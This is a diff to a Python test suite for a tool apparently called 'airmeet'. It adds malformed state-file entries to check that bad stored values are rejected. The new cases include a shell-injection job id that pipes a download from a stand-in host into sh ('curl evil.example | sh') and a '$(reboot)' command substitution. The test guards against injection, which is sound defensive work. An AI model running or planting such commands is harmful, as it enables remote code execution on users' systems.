@@ -281,6 +281,15 @@ REQUEST = "UPDATE entry SET request = '{}'"
         # values of other types
         *(FACTS.format("[1]", name) for name in ("operation", "airmeet_id", "base", "salt", "run")),
         *(LISTS.format('{"' + name + '": 5}') for name in ("template", "options", "source", "columns", "note", "name")),
+        LISTS.format('{"columns": ["email", ["a"]]}'),
+        LISTS.format('{"columns": [], "source": {"header": ["email", 5]}}'),
+        LISTS.format('{"columns": [], "source": {"header": "email"}}'),
+        # an id that people would copy into a shell with "airmeet resume"
+        LISTS.format('{"job": "x; curl evil.example | sh"}'),
+        LISTS.format('{"job": "-o"}'),
+        LISTS.format('{"job": ["a"]}'),
+        FACTS.format('"$(reboot)"', "job"),
+        "UPDATE list SET id = 9223372036854775807",
         "UPDATE list SET facts = '[]'",
         "UPDATE list SET facts = '{'",
         "UPDATE facts SET value = '" + "[" * 100_000 + "'",
@@ -290,7 +299,7 @@ REQUEST = "UPDATE entry SET request = '{}'"
 )
 def test_what_no_run_has_recorded_is_an_error_of_the_file(path: Path, statement: str) -> None:
     writer = opened(path)
-    writer.write_facts({"base": "https://x.example", "airmeet_id": "event"})
+    writer.write_facts({"base": "https://x.example", "airmeet_id": "event", "job": "1234abcd"})
     writer.close()
     make(path)
     change(path, statement)
